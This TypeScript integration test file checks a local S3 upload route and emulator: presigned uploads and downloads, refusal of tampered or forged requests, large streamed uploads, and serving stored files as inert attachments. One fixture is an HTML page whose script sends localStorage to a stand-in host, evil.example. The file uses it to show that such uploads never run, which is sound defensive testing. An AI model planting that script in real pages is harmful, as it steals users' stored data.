// The local stack's uploads: a presigned POST (made by the handlers' own code and by the real
// @aws-sdk/s3-presigned-post) sent as multipart form data to the origin's /s3/<bucket> lands in the S3
// emulator, where the AWS SDK's HeadObject and GetObject see it; what S3 refuses (another size, an expired
// policy, a tampered signature, another key, no encryption field, a field the policy does not name) is
// refused with S3's status and code, and nothing is stored. A reader as slow as an import gets the whole file.
// A 200 MB upload passes without being held in memory, and a browser page of the origin uploads under the
// portal's CSP. What the origin serves back (vault files, exports) is a download that never runs as a page of
// the origin, and the emulator's own port answers only requests signed with the handlers' credentials.
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { setTimeout as delay } from 'node:timers/promises';
import {
  DeleteObjectCommand,
  GetObjectCommand,
  HeadObjectCommand,
  ListObjectsV2Command,
  S3Client,
  type S3ClientConfig,
} from '@aws-sdk/client-s3';
import { createPresignedPost } from '@aws-sdk/s3-presigned-post';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createUploadRoute } from '../../infra/local/s3/upload-route.js';
import {
  openUpload,
  presignGet,
  presignUpload,
  uploadedSize,
  uploadWindowSeconds,
} from '../../lambdas/kernel/findings/uploads.js';
import { presignExportDownload, putExportObject } from '../../lambdas/kernel/exports/export-objects.js';
import { presignVaultDownload, presignVaultUpload } from '../../lambdas/kernel/vault/vault-objects.js';
import { launchBrowser } from '../support/browser.js';

const { appUrl, environment } = inject('localStack');
const bucket = environment.UPLOADS_BUCKET!;
// The handlers' client: endpoint, credentials and region from the environment the stack gives them.
const s3 = new S3Client({ forcePathStyle: true });

afterAll(() => s3.destroy());

function newKey(): string {
  return `uploads/acme/dast/${Date.now().toString(36)}${randomBytes(6).toString('hex')}/0`;
}

/** A presigned POST as uploads.ts makes it, with room to change what the policy says. */
async function presign(
  key: string,
  size: number,
  options: { expires?: number; client?: S3Client; conditions?: unknown[] } = {},
) {
  return createPresignedPost(options.client ?? s3, {
    Bucket: bucket,
    Key: key,
    Conditions: (options.conditions ?? [
      ['content-length-range', size, size],
      ['eq', '$x-amz-server-side-encryption', 'AES256'],
    ]) as never,
    Fields: { 'x-amz-server-side-encryption': 'AES256' },
    Expires: options.expires ?? uploadWindowSeconds,
  });
}

/** Posts the form as a browser does: the fields, then the file last; to the origin's route by default. */
async function post(fields: Record<string, string>, content: Uint8Array<ArrayBuffer>, url = `/s3/${bucket}`) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append('file', new Blob([content]), 'scan.json');
  const response = await fetch(new URL(url, appUrl), { method: 'POST', body: form });
  const text = await response.text();
  return {
    status: response.status,
    code: /<Code>([^<]*)<\/Code>/.exec(text)?.[1],
    message: /<Message>([^<]*)<\/Message>/.exec(text)?.[1],
    text,
  };
}

async function storedSize(key: string): Promise<number | undefined> {
  try {
    return (await s3.send(new HeadObjectCommand({ Bucket: bucket, Key: key }))).ContentLength;
  } catch (error) {
    if ((error as Error).name === 'NotFound') return undefined;
    throw error;
  }
}

function bytes(size: number): Uint8Array<ArrayBuffer> {
  return new Uint8Array(randomBytes(size));
}

describe('a presigned POST through the local origin', () => {
  it('stores the file made by the handlers’ presignUpload, which HeadObject, GetObject and the handlers then see', async () => {
    const key = newKey();
    const content = new TextEncoder().encode('{"site":[{"@name":"https://acme.example"}]}\n');
    const upload = await presignUpload(key, content.length);

    const answer = await post(upload.fields, content, upload.url);

    expect(upload.url).toBe(`/s3/${bucket}`);
    expect(answer.status).toBe(204);
    expect(await storedSize(key)).toBe(content.length);
    const object = await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    expect(await object.Body?.transformToString()).toBe(new TextDecoder().decode(content));
    // The handlers' own reads: startScanImport's size check and the import's stream.
    expect(await uploadedSize(key)).toBe(content.length);
    const chunks: Buffer[] = [];
    for await (const chunk of await openUpload(key)) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).equals(Buffer.from(content))).toBe(true);
  });

  it('hands the whole file to a reader that reads it slowly, as an import writing findings between reads does', async () => {
    const key = newKey();
    const content = randomBytes(3_000_000);
    const form = await presign(key, content.length);
    expect((await post(form.fields, content)).status).toBe(204);

    // Node's server once cut such a reader off 5 s after it had handed the last bytes to the socket.
    let received = 0;
    const chunks: Buffer[] = [];
    for await (const chunk of await openUpload(key)) {
      chunks.push(chunk as Buffer);
      received += (chunk as Buffer).length;
      await delay(700);
    }

    expect(received).toBe(content.length);
    expect(Buffer.concat(chunks).equals(content)).toBe(true);
  }, 120_000);

  it('answers 201 with the PostResponse document when success_action_status asks for it', async () => {
    const key = newKey();
    const upload = await presign(key, 10, {
      conditions: [['content-length-range', 10, 10], { success_action_status: '201' }],
    });

    const answer = await post({ ...upload.fields, success_action_status: '201' }, bytes(10));

    expect(answer.status).toBe(201);
    expect(answer.text).toContain(`<Key>${key}</Key>`);
    expect(await storedSize(key)).toBe(10);
  });

  it('takes a key that starts as the policy says, ${filename} replaced by the file’s name, and no other', async () => {
    const prefix = `${newKey()}/`;
    const upload = await createPresignedPost(s3, {
      Bucket: bucket,
      Key: `${prefix}\${filename}`,
      Conditions: [['content-length-range', 10, 10]],
    });

    const inside = await post(upload.fields, bytes(10));
    const outside = await post({ ...upload.fields, key: 'uploads/elsewhere/${filename}' }, bytes(10));

    expect(inside.status).toBe(204);
    expect(await storedSize(`${prefix}scan.json`)).toBe(10);
    expect(outside).toMatchObject({ status: 403, code: 'AccessDenied' });
    expect(outside.message).toContain('["starts-with","$key"');
    expect(await storedSize('uploads/elsewhere/scan.json')).toBeUndefined();
  });

  it.each([
    { what: 'a byte more than announced', size: 101, status: 400, code: 'EntityTooLarge' },
    { what: 'a byte less than announced', size: 99, status: 400, code: 'EntityTooSmall' },
  ])('refuses $what with $code and stores nothing', async ({ size, status, code }) => {
    const key = newKey();
    const upload = await presign(key, 100);

    const answer = await post(upload.fields, bytes(size));

    expect({ status: answer.status, code: answer.code }).toEqual({ status, code });
    expect(answer.text).toContain(`<ProposedSize>${size}</ProposedSize>`);
    expect(await storedSize(key)).toBeUndefined();
  });

  it('refuses an expired policy with 403 AccessDenied', async () => {
    const key = newKey();
    const upload = await presign(key, 10, { expires: -1 });

    const answer = await post(upload.fields, bytes(10));

    expect(answer).toMatchObject({ status: 403, code: 'AccessDenied', message: expect.stringMatching(/expired/) });
    expect(await storedSize(key)).toBeUndefined();
  });

  it('refuses a tampered signature, a policy changed after signing and another secret key with 403', async () => {
    const key = newKey();
    const upload = await presign(key, 10);
    const signature = upload.fields['X-Amz-Signature']!;
    const flipped = `${signature.slice(0, -1)}${signature.endsWith('0') ? '1' : '0'}`;
    // The same policy allowing a gigabyte, not signed again.
    const policy = JSON.parse(Buffer.from(upload.fields.Policy!, 'base64').toString('utf8'));
    policy.conditions[0] = ['content-length-range', 0, 1e9];
    const widened = Buffer.from(JSON.stringify(policy)).toString('base64');
    const otherSecret = new S3Client({
      forcePathStyle: true,
      credentials: { accessKeyId: environment.AWS_ACCESS_KEY_ID!, secretAccessKey: 'not-the-local-secret' },
    } satisfies S3ClientConfig);
    const foreign = await presign(key, 10, { client: otherSecret });
    otherSecret.destroy();

    const answers = await Promise.all([
      post({ ...upload.fields, 'X-Amz-Signature': flipped }, bytes(10)),
      post({ ...upload.fields, Policy: widened }, bytes(500)),
      post(foreign.fields, bytes(10)),
    ]);

    expect(answers.map(({ status, code }) => ({ status, code }))).toEqual([
      { status: 403, code: 'SignatureDoesNotMatch' },
      { status: 403, code: 'SignatureDoesNotMatch' },
      { status: 403, code: 'SignatureDoesNotMatch' },
    ]);
    expect(await storedSize(key)).toBeUndefined();
  });

  it('refuses another key than the policy names with 403 AccessDenied, storing nothing under either', async () => {
    const key = newKey();
    const other = newKey();
    const upload = await presign(key, 10);

    const answer = await post({ ...upload.fields, key: other }, bytes(10));

    expect(answer).toMatchObject({ status: 403, code: 'AccessDenied' });
    expect(answer.message).toContain('Policy Condition failed: ["eq","$key"');
    expect(await storedSize(key)).toBeUndefined();
    expect(await storedSize(other)).toBeUndefined();
  });

  it('refuses a form without the encryption field, or with another value, with 403 AccessDenied', async () => {
    const key = newKey();
    const upload = await presign(key, 10);
    const { 'x-amz-server-side-encryption': _sse, ...withoutEncryption } = upload.fields;

    const answers = await Promise.all([
      post(withoutEncryption, bytes(10)),
      post({ ...upload.fields, 'x-amz-server-side-encryption': 'aws:kms' }, bytes(10)),
    ]);

    for (const answer of answers) {
      expect(answer).toMatchObject({ status: 403, code: 'AccessDenied' });
      expect(answer.message).toContain('$x-amz-server-side-encryption');
    }
    expect(await storedSize(key)).toBeUndefined();
  });

  it('refuses a field the policy does not name, and an unknown access key', async () => {
    const key = newKey();
    const upload = await presign(key, 10);
    const credential = upload.fields['X-Amz-Credential']!.replace(/^[^/]+/, 'someone-else');

    const extra = await post({ ...upload.fields, 'x-amz-meta-owner': 'mallory' }, bytes(10));
    const unknownKey = await post({ ...upload.fields, 'X-Amz-Credential': credential }, bytes(10));

    expect(extra).toMatchObject({
      status: 403,
      code: 'AccessDenied',
      message: expect.stringMatching(/Extra input fields: x-amz-meta-owner/),
    });
    expect(unknownKey).toMatchObject({ status: 403, code: 'InvalidAccessKeyId' });
    expect(await storedSize(key)).toBeUndefined();
  });

  it('answers other buckets with NoSuchBucket and anything but a multipart POST with an S3 error', async () => {
    const upload = await presign(newKey(), 10);

    const otherBucket = await post(upload.fields, bytes(10), '/s3/someone-elses-bucket');
    const get = await fetch(`${appUrl}/s3/${bucket}`);
    const json = await fetch(`${appUrl}/s3/${bucket}`, { method: 'POST', body: '{}' });

    expect(otherBucket).toMatchObject({ status: 404, code: 'NoSuchBucket' });
    expect(get.status).toBe(405); // the bucket itself: no listing
    expect(json.status).toBe(400);
    expect(await json.text()).toContain('<Code>InvalidArgument</Code>');
  });
});

describe('a presigned GET through the local origin', () => {
  async function stored(size = 64): Promise<{ key: string; content: Uint8Array<ArrayBuffer> }> {
    const key = `vault/${randomBytes(16).toString('base64url')}`;
    const content = bytes(size);
    const upload = await presign(key, size);
    expect((await post(upload.fields, content)).status).toBe(204);
    return { key, content };
  }

  async function get(url: string) {
    const response = await fetch(new URL(url, appUrl));
    const body = new Uint8Array(await response.arrayBuffer());
    const text = Buffer.from(body).toString('utf8');
    return { response, body, code: /<Code>([^<]*)<\/Code>/.exec(text)?.[1] };
  }

  it('serves the object to the link the handlers sign for browsers, on the origin, with its disposition', async () => {
    const { key, content } = await stored(3000);
    const url = await presignGet(key, {
      expiresSeconds: 60,
      forBrowser: true,
      query: { 'response-content-disposition': 'attachment; filename="scope.bin"' },
    });

    const { response, body } = await get(url);

    expect(url.startsWith(`/s3/${bucket}/vault/`)).toBe(true);
    expect(response.status).toBe(200);
    expect(Buffer.compare(body, content)).toBe(0);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="scope.bin"');
    expect(response.headers.get('cache-control')).toBe('no-store');
  });

  it('refuses an expired link, a changed signature, another key and an unsigned GET with 403; a gone object 404', async () => {
    const { key } = await stored();
    const other = await stored();
    const good = await presignGet(key, { expiresSeconds: 1, forBrowser: true });
    const tampered = good.replace(
      /X-Amz-Signature=([0-9a-f])/,
      (_m, c: string) => `X-Amz-Signature=${c === 'a' ? 'b' : 'a'}`,
    );
    const otherKey = good.replace(key.slice('vault/'.length), other.key.slice('vault/'.length));
    const overridden = `${good}&response-content-type=text%2Fhtml`;

    expect((await get(good)).response.status).toBe(200);
    expect(await get(tampered)).toMatchObject({ response: { status: 403 }, code: 'SignatureDoesNotMatch' });
    expect(await get(otherKey)).toMatchObject({ response: { status: 403 }, code: 'SignatureDoesNotMatch' });
    expect(await get(overridden)).toMatchObject({ response: { status: 403 }, code: 'SignatureDoesNotMatch' });
    expect(await get(`/s3/${bucket}/${key}`)).toMatchObject({ response: { status: 403 }, code: 'AccessDenied' });
    await delay(2100);
    expect(await get(good)).toMatchObject({ response: { status: 403 }, code: 'AccessDenied' });

    await s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: other.key }));
    const gone = await presignGet(other.key, { expiresSeconds: 60, forBrowser: true });
    expect(await get(gone)).toMatchObject({ response: { status: 404 }, code: 'NoSuchKey' });
  });
});

describe('a stored file served on the origin', () => {
  const page = '<!doctype html><script>fetch("https://evil.example/?" + JSON.stringify(localStorage))</script>';
  const inert = {
    'content-type': 'application/octet-stream',
    'x-content-type-options': 'nosniff',
    'content-security-policy': "sandbox; default-src 'none'",
  };
  const headersOf = (response: Response, names: string[]) =>
    Object.fromEntries(names.map((name) => [name, response.headers.get(name)]));

  it('hands out an HTML file posted as a vault file as an attachment: octet-stream, nosniff, sandboxed', async () => {
    const linkId = randomBytes(16).toString('base64url');
    const content = new TextEncoder().encode(page);
    const upload = await presignVaultUpload(linkId, content.length);
    const form = new FormData();
    for (const [name, value] of Object.entries(upload.fields)) form.append(name, value);
    form.append('file', new Blob([content], { type: 'text/html' }), 'page.html');
    expect((await fetch(new URL(upload.url, appUrl), { method: 'POST', body: form })).status).toBe(204);

    const url = await presignVaultDownload(linkId);
    const response = await fetch(new URL(url, appUrl));

    expect(url.startsWith(`/s3/${bucket}/vault/`)).toBe(true);
    expect(response.status).toBe(200);
    expect(headersOf(response, Object.keys(inert))).toEqual(inert);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
    expect(await response.text()).toBe(page);
  });

  it('hands out an export through the origin as an attachment under its file name, whatever its stored type', async () => {
    const key = `exports/acme/dast/${randomBytes(8).toString('hex')}.csv`;
    await putExportObject(key, new TextEncoder().encode(page), 'text/html');

    const url = await presignExportDownload(key, 'Acme <findings>.csv');
    const response = await fetch(new URL(url, appUrl));

    expect(url.startsWith(`/s3/${bucket}/exports/`)).toBe(true);
    expect(response.status).toBe(200);
    expect(headersOf(response, Object.keys(inert))).toEqual(inert);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="Acme__findings_.csv"');
  });

  it('sends nosniff and the sandbox on a link without overrides too; a link edited to ask for a page is refused', async () => {
    const linkId = randomBytes(16).toString('base64url');
    const content = new TextEncoder().encode(page);
    const upload = await presignVaultUpload(linkId, content.length);
    const form = new FormData();
    for (const [name, value] of Object.entries(upload.fields)) form.append(name, value);
    form.append('file', new Blob([content], { type: 'text/html' }), 'page.html');
    expect((await fetch(new URL(upload.url, appUrl), { method: 'POST', body: form })).status).toBe(204);

    const plain = await fetch(
      new URL(await presignGet(`vault/${linkId}`, { expiresSeconds: 60, forBrowser: true }), appUrl),
    );
    const edited = (await presignVaultDownload(linkId)).replace(
      'response-content-type=application%2Foctet-stream',
      'response-content-type=text%2Fhtml',
    );

    expect(plain.status).toBe(200);
    expect(headersOf(plain, ['x-content-type-options', 'content-security-policy'])).toEqual({
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
    });
    expect(edited).toContain('response-content-type=text%2Fhtml');
    expect((await fetch(new URL(edited, appUrl))).status).toBe(403);
  });
});

describe('the S3 emulator’s own port', () => {
  const endpoint = environment.AWS_ENDPOINT_URL_S3!;

  it('refuses unsigned requests: no bucket list, no object list, no read, no write', async () => {
    const key = newKey();
    const upload = await presign(key, 10);
    expect((await post(upload.fields, bytes(10))).status).toBe(204);

    const answers = await Promise.all([
      fetch(`${endpoint}/`),
      fetch(`${endpoint}/${bucket}`),
      fetch(`${endpoint}/${bucket}?list-type=2&prefix=exports/`),
      fetch(`${endpoint}/${bucket}/${key}`),
      fetch(`${endpoint}/${bucket}/${newKey()}`, { method: 'PUT', body: 'planted' }),
    ]);

    expect(answers.map((answer) => answer.status)).toEqual([403, 403, 403, 403, 403]);
    for (const answer of answers) expect(await answer.text()).not.toContain(key);
  });

  it('refuses a request signed with another secret, a forged signature and an edited presigned URL', async () => {
    const key = newKey();
    const upload = await presign(key, 10);
    expect((await post(upload.fields, bytes(10))).status).toBe(204);
    const otherSecret = new S3Client({
      forcePathStyle: true,
      credentials: { accessKeyId: environment.AWS_ACCESS_KEY_ID!, secretAccessKey: 'not-the-local-secret' },
    });
    const direct = await presignGet(key, { expiresSeconds: 60 });
    const otherKey = direct.replace(key, newKey());

    const foreign = await otherSecret.send(new ListObjectsV2Command({ Bucket: bucket })).catch((error: Error) => error);
    otherSecret.destroy();
    const amzDate = new Date()
      .toISOString()
      .replace(/[-:]/g, '')
      .replace(/\.\d{3}/, '');
    const scope = `${amzDate.slice(0, 8)}/${environment.AWS_REGION}/s3/aws4_request`;
    const forged = await fetch(`${endpoint}/${bucket}`, {
      headers: {
        authorization: `AWS4-HMAC-SHA256 Credential=${environment.AWS_ACCESS_KEY_ID}/${scope}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${'0'.repeat(64)}`,
        'x-amz-date': amzDate,
        'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
      },
    });

    expect((foreign as Error).name).toBe('SignatureDoesNotMatch');
    expect(forged.status).toBe(403);
    expect((await fetch(otherKey)).status).toBe(403);
    // The handlers' own signed requests and links still work.
    expect((await fetch(direct)).status).toBe(200);
    const listed = await s3.send(new ListObjectsV2Command({ Bucket: bucket, Prefix: key }));
    expect(listed.Contents?.map((object) => object.Key)).toEqual([key]);
  });
});

describe('the upload route with a large file', () => {
  let server: Server;
  let routeUrl: string;
  let incomingDir: string;
  const forwarded = new S3Client({ forcePathStyle: true, requestChecksumCalculation: 'WHEN_REQUIRED' });

  beforeAll(async () => {
    // The route of the stack, in this process so its memory can be watched, in front of the same S3 emulator.
    incomingDir = await mkdtemp(path.join(tmpdir(), 'upload-route-'));
    const route = createUploadRoute({
      buckets: [bucket],
      credentials: {
        accessKeyId: environment.AWS_ACCESS_KEY_ID!,
        secretAccessKey: environment.AWS_SECRET_ACCESS_KEY!,
        region: environment.AWS_REGION!,
      },
      s3: forwarded,
      signedHost: new URL(environment.AWS_ENDPOINT_URL_S3!).host,
      incomingDir,
    });
    server = createServer((req, res) => void route(req, res));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    routeUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/s3/${bucket}`;
  });

  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    forwarded.destroy();
    await rm(incomingDir, { recursive: true, force: true });
  });

  /** Sends the form with a file of `size` bytes made on the fly; samples this process's memory meanwhile. */
  async function streamUpload(fields: Record<string, string>, size: number, options: { cutAfter?: number } = {}) {
    const boundary = `----portal${randomBytes(8).toString('hex')}`;
    const head = Object.entries(fields)
      .map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`)
      .join('');
    const fileHead = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.jsonl"\r\nContent-Type: application/octet-stream\r\n\r\n`;
    const tail = `\r\n--${boundary}--\r\n`;
    const chunk = Buffer.alloc(256 * 1024, 0x61);
    global.gc?.();
    const before = process.memoryUsage();
    let peak = 0;
    const sampler = setInterval(() => {
      const now = process.memoryUsage();
      peak = Math.max(peak, now.heapUsed + now.arrayBuffers - (before.heapUsed + before.arrayBuffers));
    }, 5);
    try {
      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = request(routeUrl, {
          method: 'POST',
          headers: {
            'content-type': `multipart/form-data; boundary=${boundary}`,
            'content-length': String(
              Buffer.byteLength(head) + Buffer.byteLength(fileHead) + size + Buffer.byteLength(tail),
            ),
          },
        });
        req.on('error', reject);
        req.on('response', (res) => {
          let body = '';
          res.on('data', (data: Buffer) => (body += data.toString()));
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        });
        req.write(head);
        req.write(fileHead);
        let sent = 0;
        const writeMore = () => {
          while (sent < size) {
            if (options.cutAfter !== undefined && sent >= options.cutAfter) {
              req.destroy();
              return resolve({ status: 0, body: '' });
            }
            const piece = chunk.subarray(0, Math.min(chunk.length, size - sent));
            sent += piece.length;
            if (!req.write(piece)) return void req.once('drain', writeMore);
          }
          req.end(tail);
        };
        writeMore();
      });
      return { ...answer, peakGrowth: peak };
    } finally {
      clearInterval(sampler);
    }
  }

  it('passes 200 MB to the bucket with this process growing by under 64 MB, and leaves no temporary file', async () => {
    const size = 200 * 1024 * 1024;
    const key = newKey();
    const upload = await presign(key, size);

    const answer = await streamUpload(upload.fields, size);

    expect(answer.status).toBe(204);
    expect(await storedSize(key)).toBe(size);
    expect(answer.peakGrowth).toBeLessThan(64 * 1024 * 1024);
    expect(await readdir(incomingDir)).toEqual([]);
    await s3.send(new DeleteObjectCommand({ Bucket: bucket, Key: key }));
  }, 120_000);

  it('refuses 200 MB sent against a 1 MB policy, reading it through without keeping it', async () => {
    const key = newKey();
    const upload = await presign(key, 1024 * 1024);

    const answer = await streamUpload(upload.fields, 200 * 1024 * 1024);

    expect(answer.status).toBe(400);
    expect(answer.body).toContain('<Code>EntityTooLarge</Code>');
    expect(answer.body).toContain('<MaxSizeAllowed>1048576</MaxSizeAllowed>');
    expect(answer.peakGrowth).toBeLessThan(64 * 1024 * 1024);
    expect(await storedSize(key)).toBeUndefined();
    expect(await readdir(incomingDir)).toEqual([]);
  }, 120_000);

  it('stores nothing and leaves no temporary file when the client goes away midway', async () => {
    const size = 8 * 1024 * 1024;
    const key = newKey();
    const upload = await presign(key, size);

    await streamUpload(upload.fields, size, { cutAfter: size / 2 });
    const deadline = Date.now() + 5000;
    while ((await readdir(incomingDir)).length > 0 && Date.now() < deadline) await delay(20);

    expect(await readdir(incomingDir)).toEqual([]);
    expect(await storedSize(key)).toBeUndefined();
  });
});

describe('a browser page of the local origin', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchBrowser();
  });

  afterAll(async () => {
    await browser.close();
  });

  it('uploads with fetch and FormData to the presigned URL under the portal’s CSP, and reads a refusal', async () => {
    const key = newKey();
    const size = 2048;
    const upload = await presignUpload(key, size);
    const page = await browser.newPage();
    await page.goto(`${appUrl}/`);

    const statuses = await page.evaluate(
      async ({ url, fields, size }) => {
        const send = async (fileSize: number) => {
          const form = new FormData();
          for (const [name, value] of Object.entries(fields)) form.append(name, value);
          form.append('file', new Blob([new Uint8Array(fileSize)]), 'scan.xml');
          const response = await fetch(url, { method: 'POST', body: form });
          return { status: response.status, text: await response.text() };
        };
        return [await send(size + 1), await send(size)];
      },
      { url: upload.url, fields: upload.fields, size },
    );

    expect(statuses[0]?.status).toBe(400);
    expect(statuses[0]?.text).toContain('EntityTooLarge');
    expect(statuses[1]?.status).toBe(204);
    expect(await storedSize(key)).toBe(size);
    await page.close();
  });
});
